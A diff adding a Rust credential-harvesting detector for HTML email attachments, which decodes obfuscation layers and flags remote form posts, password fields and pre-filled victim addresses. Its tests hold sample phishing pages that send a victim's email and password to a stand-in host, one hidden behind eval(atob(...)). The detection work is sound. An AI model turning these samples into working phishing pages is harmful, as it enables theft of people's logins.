@@ -0,0 +1,333 @@
+use crate::{
+    decode::{Decode, LENIENT_BASE64},
+    filetype::FileType,
+};
+use base64::Engine;
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// Signs that an HTML attachment is a credential harvesting page: a login
+/// form or script that sends what is typed to another host, often hidden
+/// behind encoding layers and pre-filled with the victim's address.
+#[derive(Debug, Clone, Default)]
+pub struct HarvestReport {
+    pub password_fields: usize,
+    /// Form actions that post to an absolute URL.
+    pub form_actions: Vec<String>,
+    /// Targets of `fetch`, `XMLHttpRequest` and jQuery requests.
+    pub script_posts: Vec<String>,
+    /// Decoding layers that were peeled off, and functions typical of
+    /// obfuscated pages.
+    pub obfuscation: Vec<String>,
+    /// Email addresses written into the page, usually the recipient's.
+    pub prefilled_emails: Vec<String>,
+    /// Addresses in `placeholder` and `value` attributes, which are as often
+    /// a `name@company.com` hint. They move to `prefilled_emails` when
+    /// [`Self::confirm_recipients`] finds them among the recipients.
+    pub example_emails: Vec<String>,
+}
+
+static PASSWORD_INPUT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?i)<input\b[^>]*\btype\s*=\s*["']?password\b"#).unwrap());
+
+static FORM_ACTION: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)<form\b[^>]*\baction\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))"#).unwrap()
+});
+
+// The request target followed by up to 300 characters, searched for the
+// method.
+static FETCH: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?is)\bfetch\s*\(\s*["'`]([^"'`]+)["'`](.{0,300})"#).unwrap());
+
+static XHR_OPEN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\.open\s*\(\s*["']post["']\s*,\s*["'`]([^"'`]+)["'`]"#).unwrap()
+});
+
+static JQUERY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?is)\$\.(?:post\s*\(\s*|ajax\s*\(\s*\{[^}]*?\burl\s*:\s*)["'`]([^"'`]+)["'`]"#)
+        .unwrap()
+});
+
+static ATOB: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\batob\s*\(\s*["'`]([A-Za-z0-9+/=\s\\]+)["'`]\s*\)"#).unwrap()
+});
+
+static UNESCAPE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?:unescape|decodeURIComponent)\s*\(\s*["'`]([^"'`]+)["'`]\s*\)"#).unwrap()
+});
+
+static DATA_HTML: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?i)data:text/html;base64,([A-Za-z0-9+/=]+)"#).unwrap());
+
+static QUOTED_EMAIL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"["'`]([A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,})["'`]"#)
+        .unwrap()
+});
+
+static ATTRIBUTE_EMAIL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?:placeholder|value)\s*=\s*["'`]([A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,})["'`]"#)
+        .unwrap()
+});
+
+static BARE_EMAIL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"^[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}$"#).unwrap()
+});
+
+impl HarvestReport {
+    /// Analyses HTML attachments, recognised by content or by an `.htm`,
+    /// `.html`, `.shtml` or `.xhtml` name. `None` for anything else.
+    pub fn inspect(
+        data: &[u8],
+        filename: Option<&str>,
+        detected: Option<&FileType>,
+    ) -> Option<HarvestReport> {
+        let named_html = filename
+            .and_then(|f| f.trim().trim_end_matches('.').rsplit_once('.'))
+            .is_some_and(|(_, ext)| Self::EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str()));
+        if detected != Some(&FileType::HTML) && !named_html {
+            return None;
+        }
+
+        let mut report = HarvestReport::default();
+        let layers = report.peel(String::from_utf8_lossy(data).into_owned());
+        for layer in &layers {
+            report.scan(layer);
+        }
+        Some(report)
+    }
+
+    /// Counts the example addresses that belong to one of `recipients` as
+    /// pre-filled, a page addressed to its victim.
+    pub fn confirm_recipients(&mut self, recipients: &[String]) {
+        let (confirmed, examples) = self
+            .example_emails
+            .drain(..)
+            .partition(|e| recipients.iter().any(|r| r.eq_ignore_ascii_case(e)));
+        self.example_emails = examples;
+        for email in confirmed {
+            Self::push_unique(&mut self.prefilled_emails, &email);
+        }
+    }
+
+    /// Whether the evidence is enough to call the page a credential
+    /// harvester: somewhere to send the data, a remote form action or a
+    /// script post, and a password field or a pre-filled address to go with
+    /// it.
+    pub fn is_harvesting(&self) -> bool {
+        let sends = !self.form_actions.is_empty() || !self.script_posts.is_empty();
+        sends && (self.password_fields > 0 || !self.prefilled_emails.is_empty())
+    }
+
+    /// One line per kind of evidence, empty when nothing was found.
+    pub fn evidence(&self) -> Vec<String> {
+        let mut evidence = Vec::new();
+        if self.password_fields > 0 {
+            evidence.push(format!("{} password field(s)", self.password_fields));
+        }
+        if !self.form_actions.is_empty() {
+            evidence.push(format!("form posts to {}", self.form_actions.join(", ")));
+        }
+        if !self.script_posts.is_empty() {
+            evidence.push(format!(
+                "script sends data to {}",
+                self.script_posts.join(", ")
+            ));
+        }
+        if !self.obfuscation.is_empty() {
+            evidence.push(format!("obfuscation: {}", self.obfuscation.join(", ")));
+        }
+        if !self.prefilled_emails.is_empty() {
+            evidence.push(format!(
+                "pre-filled email address {}",
+                self.prefilled_emails.join(", ")
+            ));
+        }
+        evidence
+    }
+
+    /// The page and every layer decoded from it by `atob`, `unescape` or a
+    /// base64 `data:` URL, up to `MAX_LAYERS` deep.
+    fn peel(&mut self, page: String) -> Vec<String> {
+        let mut layers = vec![page];
+        let mut next = 0;
+        let mut depth = vec![0];
+        while next < layers.len() {
+            if depth[next] >= Self::MAX_LAYERS {
+                next += 1;
+                continue;
+            }
+            let mut decoded = Vec::new();
+            for cap in ATOB.captures_iter(&layers[next]) {
+                let encoded: String = cap[1]
+                    .chars()
+                    .filter(|c| !c.is_whitespace() && *c != '\\')
+                    .collect();
+                if let Ok(bytes) = LENIENT_BASE64.decode(encoded) {
+                    decoded.push(("atob", String::from_utf8_lossy(&bytes).into_owned()));
+                }
+            }
+            for cap in UNESCAPE.captures_iter(&layers[next]) {
+                let bytes = Decode::percent_like(&cap[1], b'%');
+                decoded.push(("unescape", String::from_utf8_lossy(&bytes).into_owned()));
+            }
+            for cap in DATA_HTML.captures_iter(&layers[next]) {
+                if let Ok(bytes) = LENIENT_BASE64.decode(&cap[1]) {
+                    decoded.push((
+                        "base64 data URL",
+                        String::from_utf8_lossy(&bytes).into_owned(),
+                    ));
+                }
+            }
+
+            for (how, text) in decoded {
+                if text.trim().is_empty() || layers.contains(&text) {
+                    continue;
+                }
+                let layer = format!("{how} layer");
+                if !self.obfuscation.contains(&layer) {
+                    self.obfuscation.push(layer);
+                }
+                depth.push(depth[next] + 1);
+                layers.push(text);
+            }
+            next += 1;
+        }
+        layers
+    }
+
+    fn scan(&mut self, text: &str) {
+        self.password_fields += PASSWORD_INPUT.find_iter(text).count();
+
+        for cap in FORM_ACTION.captures_iter(text) {
+            let action = cap
+                .get(1)
+                .or_else(|| cap.get(2))
+                .or_else(|| cap.get(3))
+                .map_or("", |m| m.as_str())
+                .trim();
+            if Self::is_remote(action) {
+                Self::push_unique(&mut self.form_actions, action);
+            }
+        }
+
+        for cap in FETCH.captures_iter(text) {
+            let posts = cap[2].to_ascii_lowercase().replace(' ', "");
+            if posts.contains("method:\"post\"") || posts.contains("method:'post'") {
+                Self::push_unique(&mut self.script_posts, &cap[1]);
+            }
+        }
+        for pattern in [&XHR_OPEN, &JQUERY] {
+            for cap in pattern.captures_iter(text) {
+                Self::push_unique(&mut self.script_posts, &cap[1]);
+            }
+        }
+
+        let lower = text.to_ascii_lowercase();
+        for marker in Self::OBFUSCATION_MARKERS {
+            if lower.contains(&marker.to_ascii_lowercase()) {
+                Self::push_unique(&mut self.obfuscation, marker.trim_end_matches('('));
+            }
+        }
+
+        let examples: Vec<_> = ATTRIBUTE_EMAIL
+            .captures_iter(text)
+            .map(|cap| cap.get(1).unwrap().range())
+            .collect();
+        for cap in QUOTED_EMAIL.captures_iter(text) {
+            let email = cap.get(1).unwrap();
+            if examples.contains(&email.range()) {
+                Self::push_unique(&mut self.example_emails, email.as_str());
+            } else {
+                Self::push_unique(&mut self.prefilled_emails, email.as_str());
+            }
+        }
+        // A layer that is nothing but an address, such as `atob("dmljdGlt...")`.
+        if BARE_EMAIL.is_match(text.trim()) {
+            Self::push_unique(&mut self.prefilled_emails, text.trim());
+        }
+    }
+
+    fn is_remote(target: &str) -> bool {
+        let lower = target.to_ascii_lowercase();
+        lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("//")
+    }
+
+    fn push_unique(list: &mut Vec<String>, value: &str) {
+        if !list.iter().any(|v| v == value) {
+            list.push(value.to_string());
+        }
+    }
+}
+
+impl HarvestReport {
+    const MAX_LAYERS: usize = 4;
+
+    const EXTENSIONS: [&'static str; 4] = ["htm", "html", "shtml", "xhtml"];
+
+    const OBFUSCATION_MARKERS: [&'static str; 5] = [
+        "atob(",
+        "unescape(",
+        "eval(",
+        "String.fromCharCode",
+        "document.write(",
+    ];
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn inspect(page: &str, recipients: &[&str]) -> HarvestReport {
+        let mut report = HarvestReport::inspect(page.as_bytes(), Some("login.html"), None).unwrap();
+        let recipients: Vec<String> = recipients.iter().map(|r| r.to_string()).collect();
+        report.confirm_recipients(&recipients);
+        report
+    }
+
+    #[test]
+    fn login_form_posting_away_is_harvesting() {
+        let report = inspect(
+            r#"<form action="https://collect.example/p.php" method="post">
+                <input type="email" value="jane.doe@corp.com">
+                <input type="password" name="pw"></form>"#,
+            &["Jane.Doe@corp.com"],
+        );
+        assert_eq!(report.form_actions, ["https://collect.example/p.php"]);
+        assert_eq!(report.prefilled_emails, ["jane.doe@corp.com"]);
+        assert!(report.is_harvesting());
+
+        // An encoded script post with the victim's address.
+        let script = r#"var e = "jane.doe@corp.com";
+            fetch("https://collect.example/api", { method: "POST", body: e });"#;
+        let page = format!(
+            r#"<html><script>eval(atob("{}"))</script></html>"#,
+            base64::engine::general_purpose::STANDARD.encode(script)
+        );
+        let report = inspect(&page, &[]);
+        assert_eq!(report.script_posts, ["https://collect.example/api"]);
+        assert_eq!(report.prefilled_emails, ["jane.doe@corp.com"]);
+        assert!(report.is_harvesting());
+    }
+
+    #[test]
+    fn local_forms_and_placeholders_are_not_harvesting() {
+        let report = inspect(
+            r#"<form action="/login" method="post">
+                <input type="email" placeholder="name@company.com">
+                <input type="password" name="pw"></form>"#,
+            &["jane.doe@corp.com"],
+        );
+        assert!(report.form_actions.is_empty());
+        assert!(report.prefilled_emails.is_empty());
+        assert_eq!(report.example_emails, ["name@company.com"]);
+        assert!(!report.is_harvesting());
+
+        // A remote action alone, with only a placeholder address.
+        let report = inspect(
+            r#"<form action="https://news.example/subscribe">
+                <input name="email" placeholder="name@company.com"></form>"#,
+            &["jane.doe@corp.com"],
+        );
+        assert!(!report.is_harvesting());
+    }
+}